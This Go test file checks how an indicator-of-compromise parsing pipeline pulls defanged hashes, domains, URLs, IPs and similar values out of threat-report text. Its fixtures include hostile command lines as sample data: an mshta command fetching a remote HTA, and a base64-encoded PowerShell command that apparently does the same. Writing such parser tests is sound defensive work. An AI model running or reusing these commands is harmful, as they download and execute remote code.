package text_test

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/iocpipe/iocpipe/pipeline/formats"
	_ "github.com/iocpipe/iocpipe/pipeline/formats/csv" // the files it hands over
	"github.com/iocpipe/iocpipe/pipeline/formats/formatstest"
	"github.com/iocpipe/iocpipe/pipeline/formats/text"
	"github.com/iocpipe/iocpipe/pipeline/ioc"
)

var update = flag.Bool("update", false, "rewrite testdata/*/want.jsonl")

// TestCases reads each testdata/<case>/ folder through formats.Open and
// formats.Describe and compares with its want.jsonl.
func TestCases(t *testing.T) { formatstest.Run(t, "testdata", *update) }

// read reads text as a file named name and returns each row as
// "line: type value, type value | notes", "line: skip: reason" or
// "line: reject: reason", and the format the file was read as.
func read(t *testing.T, name, content string, opts formats.Options) ([]string, string, error) {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	o, err := formats.Open(p, name, opts, nil)
	if err != nil {
		return nil, "", err
	}
	defer o.Close()
	var got []string
	for {
		row, err := o.Reader.Next(context.Background())
		if errors.Is(err, io.EOF) {
			return got, o.Format.Name(), nil
		}
		if err != nil {
			return got, o.Format.Name(), err
		}
		got = append(got, show(row))
	}
}

func show(row formats.Row) string {
	switch {
	case row.Reject != nil:
		return fmt.Sprintf("%d: reject: %s", row.Origin.Line, row.Reject.Reason)
	case row.Skip != "":
		return fmt.Sprintf("%d: skip: %s", row.Origin.Line, row.Skip)
	}
	v := strings.ReplaceAll(row.Fields.Get(formats.FieldValue).Str, formats.TypeHintSep, " ")
	s := fmt.Sprintf("%d: %s", row.Origin.Line, strings.ReplaceAll(v, formats.MultiSep, ", "))
	if n := row.Fields.Get(formats.FieldNotes).Str; n != "" {
		s += " | " + n
	}
	return s
}

const (
	prose = "skip: no indicator in the line"
	title = "skip: a section title, no indicator"
	h64   = "1b3856e5d8c6a4cec1c09a68e0f87a5319c1bd4c8726586fd3ea1b3434e22dfa"
	h40   = "4d36c5325245186319d22bb933ee4c9289fac559"
	h32   = "05c1f7dd747b1af79ac427a15a8b64ae"
)

func TestLines(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"hash and tool", h64 + " \u2013 GoTokenTheft", "1: sha256 " + h64 + " | GoTokenTheft"},
		{"capitalised hash", "B" + h64[1:] + " ", "1: sha256 B" + h64[1:]},
		{"broken defang", "bombay.com[.ar", "1: domain bombay.com.ar"},
		{"broken defang 2", "chromiumengine[.space C2", "1: domain chromiumengine.space | C2"},
		{"comma defang", `"precizeabrilliant[,]com",Content pivot`, "1: domain precizeabrilliant.com | Content pivot"},
		{"hxxps", "hxxps[://]evil[.]com/a/B.php", "1: url https://evil.com/a/B.php"},
		{"paren defang", "evil(.)example{.}com", "1: domain evil.example.com"},
		{"spaced dot", "evil dot example dot com", "1: domain evil.example.com"},
		{"spaced at", "mail user [at] evil [dot] com now", "1: email user@evil.com | mail now"},
		{"at defang", "user[at]evil[.]com", "1: email user@evil.com"},
		{"ip port and host", "5.62.58[.]11 port 8989 - evil.ddns[.]net", "1: ip 5.62.58.11, domain evil.ddns.net | port 8989"},
		{"ip:port", "74[.]176[.]166[.]174:443", "1: ip 74.176.166.174:443"},
		{"ipv6 port", "C2 2a02:cf40:1::5:40669", "1: ipv6 2a02:cf40:1::5:40669 | C2"},
		{"cidr", "block 198.51.100.0/24.", "1: cidr 198.51.100.0/24 | block"},
		{"quoted command line", `mshta "hxxps[://]papad[.]b-cdn[.]net/popad"`, "1: url https://papad.b-cdn.net/popad | mshta"},
		{"url in parens", "(see hxxp://evil[.]com/x).", "1: url http://evil.com/x | see"},
		{"redacted url", "hxxps://aicmas[.]com/A?[REDACTED]=[REDACTED] ,C2", "1: url https://aicmas.com/A?[REDACTED]=[REDACTED] | C2"},
		{"webdav url", "file://Host.Example@SSL/DavWWWRoot/A.exe", "1: url file://Host.Example@SSL/DavWWWRoot/A.exe"},
		{"cve", "exploits CVE-2024-3400 in PAN-OS", "1: cve CVE-2024-3400 | exploits in PAN-OS"},
		{"email", "sender: Bad.Actor@Evil-Mail.com", "1: email Bad.Actor@Evil-Mail.com | sender"},
		{"hash label", "SHA256 hash: " + h64, "1: sha256 " + h64},
		{"several hashes", h32 + " " + h40 + " " + h64, "1: md5 " + h32 + ", sha1 " + h40 + ", sha256 " + h64},
		{"thumbprint", "Thumbprint: " + strings.ToUpper(h40) + ",", "1: sha1 " + strings.ToUpper(h40) + " | Thumbprint"},
		{"defanged zip", "evil[.]zip", "1: domain evil.zip"},
		{"bitcoin wallet", "BTC wallet: 1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "1: btc 1BoatSLRHtKNngkdXEeobR76b53LETtpyT | BTC wallet"},
		{"duplicate in line", "evil[.]com and evil.com", "1: domain evil.com"},

		{"key=value", "md5=" + h32 + " ip=198.51.100.3", "1: md5 " + h32 + ", ip 198.51.100.3"},
		{"numbered list", "1. evil[.]com", "1: domain evil.com"},
		{"bullet", "\u2022 198.51.100.4 (C2)", "1: ip 198.51.100.4 | C2"},
		{"code object", `if (window.top != window.self) document.domain = "a";`, "1: " + prose},
		{"reference link", "See https://www.vendor-blog.com/2024/06/report.html for details.", `1: skip: a reference link (not defanged, cited as a source), not an indicator`},
		{"sandbox link", "https://www.virustotal.com/gui/file/" + h64, `1: skip: a reference link (not defanged, cited as a source), not an indicator`},
		{"defanged link in a cited line", "see hxxps://evil[.]com/x", "1: url https://evil.com/x | see"},
		{"file names", "drops invoice.exe, update.js and verify-captcha-v2.html", "1: " + prose},
		{"file names 2", "then TreeSizeFreeSetup.zip runs run.py and install.sh", "1: " + prose},
		{"code", "built on ASP.NET with System.Net.WebClient", "1: " + prose},
		{"version", "KeePass version 2.56.0.1 was trojanized.", "1: " + prose},
		{"v version", "loader v1.2.3 and v2.0.0.1 seen.", "1: " + prose},
		{"dates", "Seen 2024-08-01, 01.08.2024 and 2024.08.01.", "1: " + prose},
		{"bitcoin-like in prose", "token 1BoatSLRHtKNngkdXEeobR76b53LETtpyT here.", "1: " + prose},
		{"the dot to", "connect the dot to the line.", "1: " + prose},
		{"base64", "powershell[.]exe -eC bQBzAGgAdABhACAAIgBoAHQAdABwAHMAOgAvAC8AcABhAHAAYQBkAC4AYgAtAGMAZABuAC4AbgBlAHQALwBwAG8AcABhAGQAIgA=", "1: " + prose},
		{"labelled serial", "Serial number: " + h32 + ",", `1: skip: labelled "Serial number": a certificate serial number, not an indicator`},
		{"short hash", h64[:63], "1: reject: looks like a hash, but has 63 hex digits (MD5 has 32, SHA-1 40, SHA-256 64, SHA-512 128)"},
		{"short hash beside a good one", h64[:63] + " " + h40, "1: sha1 " + h40 + ", sha256 " + h64[:63]},
		{"title", "Malvertising entry points:", "1: " + title},
		{"csv title", "Ransomware Incident IOCs,Other context", "1: " + title},
		{"labelled field", "Name: Redstrikevn Company Limited,", "1: " + prose},
		{"blank and separators", "\n ,\n----\n", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, _, err := read(t, "in.txt", tt.in, formats.Options{Format: text.Name})
			if err != nil {
				t.Fatal(err)
			}
			if g := strings.Join(got, "\n"); g != tt.want {
				t.Errorf("got\n%s\nwant\n%s", g, tt.want)
			}
		})
	}
}

// TestSections checks that a title names the section of the lines under
// it, until the next title.
func TestSections(t *testing.T) {
	in := "IoC list\nC2 servers:\nevil[.]com - panel\n\n198.51.100.7\nHashes\n" + h64 + "\nReferences\nhttps://blog.example.com/post\n"
	got, _, err := read(t, "in.txt", in, formats.Options{Format: text.Name})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"1: " + title, "2: " + title, "3: domain evil.com | C2 servers: panel", "5: ip 198.51.100.7 | C2 servers", "6: " + title, "7: sha256 " + h64 + " | Hashes",
		"8: " + title, "9: skip: a reference link (not defanged, cited as a source), not an indicator"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestLineEndings reads LF, CRLF and CR-only files, and a last line with
// no ending, alike.
func TestLineEndings(t *testing.T) {
	want := "1: ip 198.51.100.1\n2: " + prose + "\n4: domain evil.com"
	for name, in := range map[string]string{
		"LF":      "198.51.100.1\nsome words\n\nevil[.]com\n",
		"CRLF":    "198.51.100.1\r\nsome words\r\n\r\nevil[.]com\r\n",
		"CR":      "198.51.100.1\rsome words\r\revil[.]com\r",
		"no end":  "198.51.100.1\nsome words\n\nevil[.]com",
		"mixed":   "198.51.100.1\r\nsome words\r\nevil[.]com",
		"CR only": "198.51.100.1\rsome words\r\revil[.]com",
	} {
		got, _, err := read(t, "in.txt", in, formats.Options{Format: text.Name})
		if err != nil {
			t.Fatal(err)
		}
		if name == "mixed" {
			continue // two lines, no blank: checked by the others' numbering
		}
		if g := strings.Join(got, "\n"); g != want {
			t.Errorf("%s: got\n%s\nwant\n%s", name, g, want)
		}
	}
}

// TestLongLine rejects a line longer than the route's max_line_bytes and
// reads on.
func TestLongLine(t *testing.T) {
	in := strings.Repeat("x", 100) + "\nevil[.]com\n"
	got, _, err := read(t, "in.txt", in, formats.Options{Format: text.Name, MaxLineBytes: 50})
	if err != nil {
		t.Fatal(err)
	}
	want := "1: reject: line longer than 50 bytes (the route's max_line_bytes)\n2: domain evil.com"
	if g := strings.Join(got, "\n"); g != want {
		t.Errorf("got\n%s\nwant\n%s", g, want)
	}
}

// TestFallback checks which files the csv format hands over: those with
// no header and no column of indicators, never when a route forces csv
// or maps columns.
func TestFallback(t *testing.T) {
	tests := []struct {
		name, file, in string
		opts           formats.Options
		format, err    string
	}{
		{"title line", "a.csv", "Ransomware Incident IOCs,Other context\nevil[.]com,C2\n", formats.Options{}, "text", ""},
		{"report txt", "a.txt", h64 + " \u2013 Tool\n" + h64 + " - Tool\n", formats.Options{}, "text", ""},
		{"first line an indicator, then indicators in text", "a.txt", h64 + "\n" + h64 + " \u2013 Tool\n", formats.Options{}, "text", ""},
		{"first line an indicator, then bad values", "a.csv", "evil.example.com\nnot valid\n???\n", formats.Options{}, "csv", ""},
		{"headerless list", "a.txt", "198.51.100.1\n198.51.100.2,note\nevil.example.com\n", formats.Options{}, "csv", ""},
		{"headerless list with notes after spaces", "a.txt", "198.51.100.1\n198.51.100.2 ; note\n", formats.Options{}, "text", ""},
		{"header", "a.csv", "url,notes\nhttp://evil.example/a,x\n", formats.Options{}, "csv", ""},
		{"forced csv", "a.csv", "a,b\nevil.example.com x,d\n", formats.Options{Format: "csv"}, "", "no header and no column of indicators"},
		{"no indicator anywhere", "a.txt", "this is not a feed\njust some text\n", formats.Options{}, "", "no indicator column in the header"},
		{"mapped columns", "a.csv", "a,b\nc,d\n", formats.Options{Columns: map[string][]string{"value": {"x"}}}, "", `no column "x"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, format, err := read(t, tt.file, tt.in, tt.opts)
			switch {
			case tt.err != "":
				if err == nil || !strings.Contains(err.Error(), tt.err) {
					t.Fatalf("got %v, want an error containing %q", err, tt.err)
				}
			case err != nil:
				t.Fatal(err)
			case format != tt.format:
				t.Errorf("read as %s, want %s", format, tt.format)
			}
		})
	}
}

// FuzzText reads any input as text: no panic, no hang, a row per line at
// most, each line number increasing, every row either indicators, a skip
// or a reject.
func FuzzText(f *testing.F) {
	for _, s := range []string{
		h64 + " \u2013 GoTokenTheft\r\n", "hxxps[://]evil[.]com/a\rTitle:\r", `mshta "hxxps[://]x[.]b-cdn[.]net/p"`,
		"bombay.com[.ar chromiumengine[.space example[,]com", "user [at] evil [dot] com", "2a02:cf40:1::5:40669 [", "((((]]]]",
		"\"a\",\"b\"\n,\n", "Serial number: " + h32, strings.Repeat("a dot ", 50),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		p := filepath.Join(t.TempDir(), "in.txt")
		if err := os.WriteFile(p, []byte(in), 0o600); err != nil {
			t.Fatal(err)
		}
		o, err := formats.Open(p, "in.txt", formats.Options{Format: text.Name, MaxLineBytes: 4096}, nil)
		if err != nil {
			return // not text (NUL bytes, UTF-16)
		}
		defer o.Close()
		last := 0
		for {
			row, err := o.Reader.Next(context.Background())
			if errors.Is(err, io.EOF) {
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if row.Origin.Line <= last {
				t.Fatalf("line %d after line %d", row.Origin.Line, last)
			}
			last = row.Origin.Line
			if row.Skip == "" && row.Reject == nil && row.Fields.Get(formats.FieldValue).Str == "" {
				t.Fatalf("line %d: a row with no indicator, no skip and no reject", last)
			}
		}
	})
}

// TestWriteRows writes the rejected lines back as they were written.
func TestWriteRows(t *testing.T) {
	p := filepath.Join(t.TempDir(), "in.txt")
	in := "Title:\r\n" + h64[:63] + " - Tool\r\n\r\nevil[.]com\r\n" + h64[:30] + "0\r\n"
	if err := os.WriteFile(p, []byte(in), 0o600); err != nil {
		t.Fatal(err)
	}
	var rows ioc.Ranges
	rows.Add(1)
	rows.Add(3)
	var b strings.Builder
	if err := formats.WriteRows(p, text.Name, formats.Options{}, rows, &b); err != nil {
		t.Fatal(err)
	}
	if want := h64[:63] + " - Tool\n" + h64[:30] + "0\n"; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}
